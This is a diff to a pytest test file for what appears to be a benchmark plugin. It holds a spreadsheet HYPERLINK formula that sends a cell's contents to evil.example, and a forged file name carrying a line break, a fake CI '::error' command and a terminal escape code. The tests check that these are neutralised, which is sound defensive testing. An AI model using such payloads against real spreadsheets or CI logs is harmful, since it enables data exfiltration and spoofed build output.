@@ -1021,3 +1021,31 @@ def test_generate_writes_no_cell_a_spreadsheet_would_run(tmp_path) -> None:
     prompts = [row["prompt"] for row in csv.DictReader(
         (tmp_path / "bank" / "safe.csv").open(newline="", encoding="utf-8"))]
     assert 'HYPERLINK("http://evil.example/?"&A1,"click")' in prompts  # sent as shown
+
+
+# Suite file names ----------------------------------------------------------------------------
+
+FORGING_NAME = "a\n::error title=forged::filename\x1b[2J.yaml"
+
+
+@pytest.mark.parametrize("xdist", [[], ["-n", "2"]])
+def test_a_suite_file_name_cannot_forge_output(pytester, plugin_args, server, xdist) -> None:
+    """Git accepts such a name from a pull request; pytest prints node ids as they are."""
+    mini_suite(pytester.path)
+    (pytester.path / "suites" / FORGING_NAME).write_text(yaml.safe_dump(GOOD_SUITE))
+    result = pytester.runpytest_subprocess(
+        *plugin_args, "-p", "no:cacheprovider", "suites", "--orbench-model=m",
+        f"--orbench-base-url={server.url}", *xdist, timeout=120)
+    text = no_crash(result)
+    assert "\x1b" not in text
+    assert not [line for line in text.splitlines() if line.lstrip().startswith("::")]
+    assert "no verdict" not in text
+    if xdist:  # the workers report the collection error; the other suite's items all ran
+        assert result.ret == pytest.ExitCode.TESTS_FAILED
+        result.assert_outcomes(passed=3, errors=1)
+    else:
+        assert result.ret == pytest.ExitCode.INTERRUPTED  # a collection error
+    body = _collection_error_body(result.stdout.lines)
+    assert body == ["suites/a\\n:\\x3aerror title=forged:\\x3afilename\\x1b[2J.yaml: a suite "
+                    "file name may not hold control characters, line breaks or '::' (pytest "
+                    "prints it as it is, so it could forge output); rename the file"], text
